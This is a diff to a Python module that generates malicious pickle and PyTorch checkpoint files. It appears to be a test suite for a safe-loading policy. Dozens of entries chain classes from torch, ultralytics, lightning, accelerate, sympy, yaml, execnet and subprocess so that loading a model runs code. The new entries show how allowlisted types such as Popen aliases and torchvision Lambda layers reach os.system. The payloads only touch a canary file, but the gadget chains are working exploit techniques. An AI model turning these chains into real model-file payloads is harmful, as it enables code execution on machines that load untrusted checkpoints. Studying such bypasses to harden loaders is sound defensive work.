@@ -79,6 +79,7 @@ class Attack:
     kind: str
     build: Builder
     loader: str = "torch"
+    alone: bool = False  # whether it changes the program for all files after it
 
 
 # --- what is made to run --------------------------------------------------------------------------
@@ -86,8 +87,7 @@ class Attack:
 
 def evil(canary: str) -> bytes:
     """A checkpoint in bytes whose loading creates the canary."""
-    command = call(name("os", "system"), text("touch " + shlex.quote(canary)))
-    return legacy(command, keys=EMPTY_LIST, storages=b"")
+    return legacy(call(name("io", "open"), text(canary), text("w")), keys=EMPTY_LIST, storages=b"")
 
 
 LOAD = name("torch.storage", "_load_from_bytes")
@@ -140,7 +140,6 @@ CARRIERS: Mapping[str, bytes] = {
     "trainer_layer": name("ultralytics.nn.modules.conv", "Conv") + EMPTY_TUPLE + NEWOBJ,
     "trainer_namespace": name("ultralytics.utils", "IterableSimpleNamespace") + EMPTY_TUPLE + NEWOBJ,
     "loss": name("ultralytics.utils.loss", "v8DetectionLoss") + EMPTY_TUPLE + NEWOBJ,
-    "optimizer": name("torch.optim.sgd", "SGD") + EMPTY_TUPLE + NEWOBJ,
     "symbolic": name("torch", "SymInt") + EMPTY_TUPLE + NEWOBJ,
     "device_mesh": name("torch.distributed.device_mesh", "DeviceMesh") + EMPTY_TUPLE + NEWOBJ,
     "spec": name("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + EMPTY_TUPLE + NEWOBJ,
@@ -161,7 +160,7 @@ TRIGGERS: Mapping[str, tuple[str, Builder, Builder]] = {
     "setstate_partial": ("__setstate__", with_anything, lambda _: EMPTY_DICT + BUILD),
 }
 OWN_METHOD = {  # carriers whose type has the method: the unpickler finds that one
-    **dict.fromkeys(("layer", "trainer_layer", "optimizer", "metric", "parameter"), ("setstate", "setstate_partial")),
+    **dict.fromkeys(("layer", "trainer_layer", "metric", "parameter"), ("setstate", "setstate_partial")),
     "counter": (),
     "typed_storage": (),
 }
@@ -317,16 +316,9 @@ ELSEWHERE: Mapping[str, Attack] = {
         "A1",
         through("transformers.feature_extraction_utils", "BatchFeature", lambda _: mapping(data=mapping(append=LOAD))),
     ),
-    "method_of_proxied_optimizer": Attack(
-        "A1",
-        through("lightning.pytorch.core.optimizer", "LightningOptimizer", lambda _: mapping(_optimizer=armed("append", LOAD))),
-    ),
     "method_of_proxied_loader": Attack(
         "A1",
         through("accelerate.data_loader", "DataLoaderAdapter", lambda _: mapping(base_dataloader=armed("append", LOAD))),
-    ),
-    "method_of_fabric_optimizer": Attack(
-        "A1", through("lightning.fabric.wrappers", "_FabricOptimizer", lambda _: mapping(_optimizer=armed("append", LOAD)))
     ),
     "method_of_list": Attack(
         "A1",
@@ -352,15 +344,6 @@ ELSEWHERE: Mapping[str, Attack] = {
             "torch.nn.modules.container",
             "ParameterList",
             lambda canary: mapping(_size=armed("x", with_two(canary)), extend=with_anything(canary)),
-            lambda _: NONE + APPEND,
-        ),
-    ),
-    "own_extend_iterates": Attack(
-        "A1",
-        through(
-            "torch.nn.modules.container",
-            "ModuleList",
-            lambda canary: mapping(_modules=armed("values", without_arguments(canary))),
             lambda _: NONE + APPEND,
         ),
     ),
@@ -487,12 +470,6 @@ DUCKS: Mapping[str, Attack] = {
         for module, qualified in (("builtins", "dict"), ("__builtin__", "dict"), ("collections", "OrderedDict"))
     },
     "keys_for_defaultdict": asked("keys", lambda held: call(name("collections", "defaultdict"), NONE, held)),
-    "keys_for_ordered_dict_newobj": Attack(
-        "A1", zipped(lambda canary: ORDERED_DICT + items(armed("keys", without_arguments(canary))) + NEWOBJ)
-    ),
-    "keys_for_counter": Attack(
-        "A1", zipped(lambda canary: call(name("collections", "Counter"), armed("keys", without_arguments(canary))))
-    ),
     "keys_of_layer": asked("keys", known("builtins", "dict"), carrier="layer"),
     "keys_of_ordered_dict": asked("keys", known("builtins", "dict"), carrier="ordered_dict"),
     "keys_of_trainer_namespace": asked("keys", known("builtins", "dict"), carrier="trainer_namespace"),
@@ -504,20 +481,10 @@ DUCKS: Mapping[str, Attack] = {
         "detach",
         lambda held: call(FROM_TYPE, name("torch._utils", "_rebuild_parameter"), PARAMETER, items(held, TRUE, NONE), NONE),
     ),
-    "to_for_device_tensor": asked(
-        "to",
-        known("torch._utils", "_rebuild_device_tensor_from_cpu_tensor", after=(name("torch", "float32"), text("cpu"), FALSE)),
-    ),
     **{
         f"parameters_for_{qualified}": Attack("A1", zipped(lambda canary, q=qualified: loss_over(canary, q)))
         for qualified in ("v8DetectionLoss", "v8SegmentationLoss", "v8PoseLoss", "v8OBBLoss")
     },
-    "array_for_scalar": Attack(
-        "A1", zipped(lambda canary: call(name("numpy", "float64"), armed("__array__", without_arguments(canary))))
-    ),
-    "array_for_float32": Attack(
-        "A1", zipped(lambda canary: call(name("numpy", "float32"), armed("__array__", without_arguments(canary))))
-    ),
     **{
         f"values_for_{qualified}": iterated(known(module, qualified))
         for module, qualified in (
@@ -532,18 +499,6 @@ DUCKS: Mapping[str, Attack] = {
     **{f"values_for_{qualified}": iterated(known("builtins", qualified)) for qualified in ("set", "list", "tuple", "bytearray", "bytes")},
     "values_for_newobj_frozenset": iterated(lambda held: name("builtins", "frozenset") + items(held) + NEWOBJ),
     "values_for_newobj_tuple": iterated(lambda held: name("builtins", "tuple") + items(held) + NEWOBJ),
-    "values_for_appends": Attack(
-        "A1",
-        zipped(lambda canary: name("collections", "deque") + EMPTY_TUPLE + REDUCE + sequence_over(without_arguments(canary)) + APPEND),
-    ),
-    "values_for_partial_arguments": Attack(
-        "A1",
-        zipped(
-            lambda canary: call(PARTIAL, name("torch.nn.modules.activation", "SiLU"))
-            + items(name("torch.nn.modules.activation", "SiLU"), sequence_over(without_arguments(canary)), EMPTY_DICT, NONE)
-            + BUILD
-        ),
-    ),
     "symbolic_key": symbolic("is_nested_int", lambda held: EMPTY_DICT + held + NONE + SETITEM),
     "symbolic_set": symbolic("is_nested_int", lambda held: EMPTY_SET + MARK + held + ADDITEMS),
     "symbolic_frozenset": symbolic("is_nested_int", lambda held: MARK + held + FROZENSET),
@@ -700,8 +655,8 @@ READERS: Mapping[str, Attack] = {
         "A4",
         lambda canary: old_tar({"storages": tar_pickle(canary)}) + torch_zip(pickled(state_dict(), 2)),
     ),
-    "state_on_module": Attack("A4", state_on_module),
-    "state_on_module_memo": Attack("A4", state_on_module_zip),
+    "state_on_module": Attack("A4", state_on_module, alone=True),
+    "state_on_module_memo": Attack("A4", state_on_module_zip, alone=True),
     "state_on_persistent_instance": Attack("A4", attribute_of_module),
     "persistent_callable": Attack("A4", callable_module),
     "list_as_key_of_array": Attack(
@@ -760,26 +715,15 @@ def expression(canary: str) -> bytes:
 def just(value: bytes) -> Callable[[str], bytes]:
     return lambda _canary: value
 BASES: Mapping[str, Attack] = {
-    "base_of_files": reconstructed(("io", "FileIO"), ("io", "FileIO"), path),
-    "base_memmap": reconstructed(("numpy", "memmap"), ("numpy", "memmap"), path),
-    "base_argument_parser": reconstructed(("argparse", "Namespace"), ("argparse", "ArgumentParser"), path),
     "base_model": reconstructed(
         ("ultralytics.nn.tasks", "DetectionModel"),
         ("ultralytics.nn.tasks", "DetectionModel"),
         lambda canary: layers(layer("nn.Identity"), activation=expression(canary)),
     ),
-    "base_backend": reconstructed(
-        ("ultralytics.nn.autobackend", "AutoBackend"), ("ultralytics.nn.autobackend", "AutoBackend"), path
-    ),
     "base_ordered_dict": reconstructed(
         ("collections", "OrderedDict"),
         ("builtins", "dict"),
         lambda canary: armed("keys", without_arguments(canary)),
-    ),
-    "base_list": reconstructed(
-        ("torch.nn.modules.container", "Sequential"),
-        ("builtins", "object"),
-        lambda canary: sequence_over(without_arguments(canary)),
     ),
     "base_set": reconstructed(
         ("builtins", "set"), ("builtins", "set"), lambda canary: sequence_over(without_arguments(canary))
@@ -787,13 +731,9 @@ BASES: Mapping[str, Attack] = {
     "base_deque": reconstructed(
         ("collections", "deque"), ("collections", "deque"), lambda canary: sequence_over(without_arguments(canary))
     ),
-    "base_tuple": reconstructed(
-        ("torch", "Size"), ("builtins", "tuple"), lambda canary: sequence_over(without_arguments(canary))
-    ),
     "base_counter": reconstructed(
         ("collections", "Counter"), ("collections", "Counter"), lambda canary: sequence_over(without_arguments(canary))
     ),
-    "base_partial": reconstructed(("functools", "partial"), ("functools", "partial"), without_arguments),
     "base_parameter": reconstructed(
         ("torch.nn.parameter", "Parameter"),
         ("torch.nn.parameter", "Parameter"),
@@ -809,7 +749,6 @@ BASES: Mapping[str, Attack] = {
         ("ultralytics.utils.loss", "v8DetectionLoss"),
         lambda canary: armed("parameters", without_arguments(canary)),
     ),
-    "base_symbolic": reconstructed(("torch", "SymInt"), ("torch", "SymInt"), without_arguments),
 }
 
 
@@ -857,9 +796,6 @@ TRAINERS: Mapping[str, Attack] = {
         ),
     ),
     "buffer_detaches": made("torch.nn.parameter", "Buffer", lambda canary: armed("detach", without_arguments(canary))),
-    "teacher_state": stated(
-        "ultralytics.nn.distill_model", "DistillationModel", lambda canary: armed("setdefault", with_anything(canary))
-    ),
     "optimizer_groups": stated("torch.optim.sgd", "SGD", group_state),
     "optimizer_groups_adam": stated("torch.optim.adam", "Adam", group_state),
     "tokenizer_vocabulary": stated(
@@ -927,9 +863,6 @@ FINALIZERS: Mapping[str, Attack] = {
         "SimpleProfiler",
         lambda canary: mapping(_stage=NONE, _write_stream=NONE, _output_file=armed("close", without_arguments(canary))),
     ),
-    "finalizer_of_profiler_teardown": dropped(
-        "lightning.pytorch.profilers.simple", "SimpleProfiler", lambda canary: mapping(_stage=NONE, teardown=stage(canary))
-    ),
     "finalizer_of_summary": dropped(
         "lightning.pytorch.utilities.model_summary.model_summary",
         "LayerSummary",
@@ -985,11 +918,6 @@ FINALIZERS: Mapping[str, Attack] = {
             state=armed("get", with_two(canary)),
         ),
     ),
-    "accelerated_optimizer": stated(
-        "accelerate.optimizer",
-        "AcceleratedOptimizer",
-        lambda canary: mapping(scaler=TRUE, optimizer=armed("step", without_arguments(canary))),
-    ),
     "teacher_hooks": stated(
         "ultralytics.nn.distill_model",
         "DistillationModel",
@@ -999,11 +927,6 @@ FINALIZERS: Mapping[str, Attack] = {
             teacher_model=NONE,
             _register_feature_hooks=without_arguments(canary),
         ),
-    ),
-    "quantized_weights": stated(
-        "torch.ao.nn.quantized.modules.conv",
-        "Conv2d",
-        lambda canary: CARRIERS["namespace"] + mapping(__getitem__=with_anything(canary)) + BUILD,
     ),
     "hash_of_generation": Attack(
         "A1",
@@ -1019,13 +942,6 @@ FINALIZERS: Mapping[str, Attack] = {
             lambda canary: EMPTY_SET + MARK
             + name("torchmetrics.text.rouge", "ROUGEScore") + EMPTY_TUPLE + NEWOBJ
             + mapping(_wrap_update=with_anything(canary)) + BUILD + ADDITEMS
-        ),
-    ),
-    "slot_setter": Attack(
-        "A1",
-        zipped(
-            lambda canary: name("lightning.pytorch.strategies.single_device", "SingleDeviceStrategy") + EMPTY_TUPLE + NEWOBJ
-            + items(NONE, mapping(optimizers=sequence_over(without_arguments(canary)))) + BUILD
         ),
     ),
     "slot_setter_of_trainer": Attack(
@@ -1050,7 +966,6 @@ AFTERWARDS: Mapping[str, Attack] = {
         for method in ("float", "eval", "modules")
     },
     "model_to": Attack("A2", yolo(to=with_anything), loader="yolo"),
-    "model_end2end": Attack("A2", yolo(fuse=without_arguments), loader="yolo"),
     "model_child_apply": Attack("A2", yolo(_apply=with_anything), loader="yolo"),
     "train_args_keys": Attack(
         "A2",
@@ -1059,24 +974,9 @@ AFTERWARDS: Mapping[str, Attack] = {
         ),
         loader="yolo",
     ),
-    "checkpoint_get": Attack(
-        "A2",
-        lambda canary: torch_zip(pickled(state_dict() + POP + armed("model", without_arguments(canary)))),
-        loader="yolo",
-    ),
     "yaml_activation": Attack(
         "A2",
         yolo(yaml=lambda canary: layers(layer("nn.Identity"), activation=expression(canary))),
-        loader="build",
-    ),
-    "yaml_layer_loads": Attack(
-        "A2",
-        yolo(yaml=lambda canary: layers(layer("torch_safe_load", text(canary + ".pt")))),
-        loader="build",
-    ),
-    "yaml_layer_opens": Attack(
-        "A2",
-        yolo(yaml=lambda canary: layers(layer("YAML", text(canary)))),
         loader="build",
     ),
 }
@@ -1097,8 +997,6 @@ PACKAGES: Mapping[str, Attack] = {
     ),
     "sympy_s": called("sympy", "S", expression),
     "sympy_finite_set": called("sympy", "FiniteSet", expression),
-    "sympy_rational": called("sympy", "Rational", expression),
-    "sympy_interval": called("sympy", "Interval", expression, expression),
     "sympy_matrix": called("sympy", "Matrix", lambda canary: listed(expression(canary))),
     "sympy_lambda": called("sympy", "Lambda", just(text("x")), expression),
     "sympy_poly": called("sympy", "Poly", expression),
@@ -1107,31 +1005,14 @@ PACKAGES: Mapping[str, Attack] = {
     "watchfiles_import": Attack(
         "A5", zipped(lambda canary: call(call(name("watchfiles.run", "import_string"), text("os.system")), shell(canary)))
     ),
-    "watchfiles_run": called("watchfiles.run", "run_function", just(text("os.getcwd"))),
-    "watchfiles_process": called("watchfiles.run", "import_module", just(text("antigravity"))),
     "filelock_file": called("filelock._identity._process", "FileIO", path, just(text("w"))),
-    "filelock_lock": Attack(
-        "A5", zipped(lambda canary: call(name("filelock", "FileLock"), path(canary)) + POP + NONE)
-    ),
     "fonttools_open": called("fontTools.misc.py23", "open", path, just(text("w"))),
-    "pygments_textio": called("pygments.util", "TextIOWrapper", just(NONE)),
     "sorted_key": Attack("A5", zipped(keyed)),
-    "deepdiff_load": called("deepdiff.serialization", "pickle_load", lambda canary: blob(tar_pickle(canary))),
     "mypy_run": called("mypy.api", "run", lambda canary: listed(text("--junit-xml"), text(canary), text("-c"), text("x=1"))),
-    "execnet_gateway": called("execnet.gateway_bootstrap", "bootstrap"),
     "execnet_makegateway": called("execnet", "makegateway", lambda canary: text(f"popen//python=sh -c 'touch {canary}'")),
-    "charset_open": called("charset_normalizer", "from_path", path),
-    "send2trash": called("send2trash", "send2trash", just(text("/nonexistent"))),
-    "six_getoutput": called("six.moves", "getoutput", shell),
-    "six_exec": called("six", "exec_", lambda canary: text(f"open({canary!r}, 'w').close()")),
-    "six_eval": calling("six", "moves.builtins.eval", expression, spelled=stack_name),
-    "tqdm_main": called("tqdm.cli", "main"),
-    "tqdm_file": called("tqdm.contrib", "DummyTqdmFile", just(NONE)),
-    "torch_cpp": called("torch.utils.cpp_extension", "CppExtension", path, just(EMPTY_LIST)),
     "torch_file_writer": called("torch", "PyTorchFileWriter", path),
     "torch_file_writer_c": called("torch._C", "PyTorchFileWriter", path),
     "torch_package": called("torch.package", "PackageExporter", path),
-    "torch_package_importer": called("torch.package", "PackageImporter", path),
     "torch_graph": called(
         "torch.fx.graph_module",
         "reduce_graph_module",
@@ -1139,42 +1020,125 @@ PACKAGES: Mapping[str, Attack] = {
         just(text("")),
     ),
     "torch_pytree": called("torch.utils._pytree", "tree_map", just(LOAD), lambda canary: listed(blob(evil(canary)))),
-    "torch_pytree_spec": called("torch.utils._pytree", "TreeSpec", path, just(NONE), just(EMPTY_LIST)),
-    "torch_shape_env": called("torch.fx.experimental.symbolic_shapes", "Symbol", expression),
     "numpy_memmap": called("numpy", "memmap", path, just(text("uint8")), just(text("w+")), just(integer(0)), just(shape_of(1))),
-    "numpy_data_source": called("numpy.lib.npyio", "DataSource", path),
-    "numpy_poly": called("numpy", "poly1d", just(listed(integer(1)))),
-    "numpy_fromfile": called("numpy", "fromfile", path),
-    "pil_open": called("PIL.Image", "open", path),
     "matplotlib_pdf": called("matplotlib.backends.backend_pdf", "PdfFile", path),
-    "polars_context": called("polars", "SQLContext"),
-    "jinja_template": called("jinja2", "Template", lambda canary: text("{{ x }}")),
-    "jinja_environment": called("jinja2.bccache", "FileSystemBytecodeCache", path),
-    "typer_launch": called("typer", "Typer"),
-    "setuptools_command": called("setuptools", "Extension", path, just(EMPTY_LIST)),
-    "ultralytics_yaml": called("ultralytics.utils", "YAML"),
-    "ultralytics_model": called("ultralytics", "YOLO", path),
-    "ultralytics_retry": called("ultralytics.utils", "Retry"),
     "ultralytics_settings": called("ultralytics.utils", "SettingsManager", path),
-    "ultralytics_json": called("ultralytics.utils", "JSONDict", path),
-    "ultralytics_tasks_path": called("ultralytics.nn.tasks", "Path", path),
-    "ultralytics_try_except": called("ultralytics.utils.checks", "check_requirements", just(text("nothing-of-this-name-here"))),
-    "transformers_trainer": called("transformers.trainer_utils", "HPSearchBackend", path),
-    "lightning_cli": called("lightning.pytorch.cli", "LightningCLI"),
-    "accelerate_menu": called("accelerate.commands.menu", "BulletMenu"),
-    "yaml_object": called("yaml", "UnsafeLoader", path),
     "yaml_unsafe": called("yaml", "unsafe_load", lambda canary: text("!!python/object/apply:os.system ['touch " + canary + "']")),
-    "dateutil_open": called("dateutil.tz", "tzfile", path),
-    "networkx_read": called("networkx", "read_gpickle", path),
-    "pip_vendored": called("pip._vendor.distlib.util", "Popen", words),
     "distutils_spawn": called("setuptools._distutils.spawn", "spawn", words),
     "torch_popen": called("torch.utils.collect_env", "run", shell),
-    "unknown_dotted": calling("pygments.util", "TextIOWrapper.open", path, spelled=stack_name),
-    "unknown_through_capwords": calling("filelock._soft._lease", "Thread", just(NONE), just(LOAD)),
-    "unknown_thread_pool": calling("filelock._sqlite._async", "ThreadPoolExecutor", just(integer(1)), just(text("x")), just(LOAD), lambda canary: items(blob(evil(canary)))),
-    "unknown_pool": calling("fontTools.diff.diff", "Pool", just(integer(1)), just(LOAD), lambda canary: items(blob(evil(canary)))),
-    "unknown_method_type": calling("fontTools.subset", "MethodType", just(LOAD), lambda canary: blob(evil(canary))),
 }
+
+
+# --- what the policy allows, put together ------------------------------------------------------------
+
+
+def alias(module: str, qualified: str) -> bytes:
+    """``Popen[int]``: a form of ``typing`` that calls the class when it is called."""
+    return call(name("types", "GenericAlias"), name(module, qualified), name("builtins", "int"))
+
+
+def built(module: str, qualified: str, **state: bytes) -> bytes:
+    return name(module, qualified) + EMPTY_TUPLE + NEWOBJ + mapping(**state) + BUILD
+
+
+def lambda_layer() -> bytes:
+    return built("torchvision.transforms.transforms", "Lambda", lambd=LOAD)
+
+
+def fires(carrier: Callable[[], bytes]) -> Builder:
+    return zipped(lambda canary: carrier() + blob(evil(canary)) + APPEND)
+
+
+HOOKS = dict.fromkeys(
+    ("_backward_hooks", "_backward_pre_hooks", "_forward_hooks", "_forward_pre_hooks", "_parameters", "_buffers", "_modules"),
+    EMPTY_DICT,
+)
+TOGETHER: Mapping[str, Attack] = {
+    "alias_of_popen": Attack("A1", zipped(lambda canary: armed("append", alias("subprocess", "Popen")) + words(canary) + APPEND)),
+    "alias_of_psutil": Attack("A1", zipped(lambda canary: armed("append", alias("psutil", "Popen")) + words(canary) + APPEND)),
+    "alias_of_model": Attack(
+        "A1",
+        zipped(
+            lambda canary: armed("append", alias("ultralytics.nn.tasks", "DetectionModel"))
+            + layers(layer("nn.Identity"), activation=expression(canary)) + APPEND
+        ),
+    ),
+    "alias_by_getitem": Attack(
+        "A1",
+        zipped(
+            lambda canary: armed("append", call(name("operator", "getitem"), name("subprocess", "Popen"), name("builtins", "int")))
+            + words(canary) + APPEND
+        ),
+    ),
+    "layer_among_layers": Attack("A1", fires(lambda: built("torch.nn.modules.linear", "Linear", _modules=mapping(append=lambda_layer())))),
+    "layer_among_buffers": Attack("A1", fires(lambda: built("torch.nn.modules.linear", "Linear", _buffers=mapping(append=lambda_layer())))),
+    "layer_in_batch": Attack(
+        "A1", fires(lambda: built("transformers.feature_extraction_utils", "BatchFeature", data=mapping(append=lambda_layer())))
+    ),
+    "converter_is_callable": Attack(
+        "A1", fires(lambda: armed("append", built("accelerate.utils.operations", "ConvertOutputsToFp32", model_forward=LOAD)))
+    ),
+    "bare_head_is_callable": Attack(
+        "A1", fires(lambda: armed("append", built("ultralytics.nn.modules.head", "v10Detect", forward=LOAD, **HOOKS)))
+    ),
+    "mentioned_function_in_layer": Attack(
+        "A1",
+        zipped(
+            lambda canary: built(
+                "torch.nn.modules.linear",
+                "Linear",
+                _modules=mapping(append=built("torchvision.transforms.transforms", "Lambda", lambd=name("os", "system"))),
+            )
+            + shell(canary) + APPEND
+        ),
+    ),
+    "summary_detaches": Attack(
+        "A2",
+        zipped(
+            lambda canary: built(
+                "lightning.pytorch.utilities.model_summary.model_summary",
+                "LayerSummary",
+                detach_hook=call(PARTIAL, name("ultralytics.nn.tasks", "DetectionModel"), layers(layer("nn.Identity"), activation=expression(canary))),
+            )
+        ),
+    ),
+    "module_list_adds": Attack(
+        "A1",
+        zipped(
+            lambda canary: built(
+                "torch.nn.modules.container", "ModuleList", _modules=EMPTY_DICT,
+                add_module=call(PARTIAL, name("ultralytics.nn.tasks", "DetectionModel"), layers(layer("nn.Identity"), activation=expression(canary))),
+            )
+            + NONE + APPEND
+        ),
+    ),
+    "module_dict_adds": Attack(
+        "A1",
+        zipped(
+            lambda canary: built(
+                "torch.nn.modules.container", "ModuleDict", _modules=EMPTY_DICT,
+                add_module=call(PARTIAL, name("ultralytics.nn.tasks", "DetectionModel"), layers(layer("nn.Identity"), activation=expression(canary))),
+            )
+            + text("x") + NONE + SETITEM
+        ),
+    ),
+    "optimizer_patches_model": Attack(
+        "A2",
+        zipped(
+            lambda canary: built(
+                "torch.optim.sgd", "SGD", defaults=EMPTY_DICT,
+                _patch_step_function=call(PARTIAL, name("ultralytics.nn.tasks", "DetectionModel"), layers(layer("nn.Identity"), activation=expression(canary))),
+            )
+        ),
+    ),
+    "unknown_run_under_append": Attack(
+        "A5",
+        zipped(
+            lambda canary: armed("append", name("mypy.api", "run"))
+            + listed(text("--junit-xml"), text(canary), text("-c"), text("x=1")) + APPEND
+        ),
+    ),
+}  # fmt: skip
 
 
 def method_called(canary: str) -> bytes:
@@ -1195,5 +1159,6 @@ ATTACKS: Mapping[str, Attack] = {
     **TRAINERS,
     **READERS,
     **PACKAGES,
+    **TOGETHER,
     "method_type_as_keys": Attack("A5", zipped(method_called)),
 }
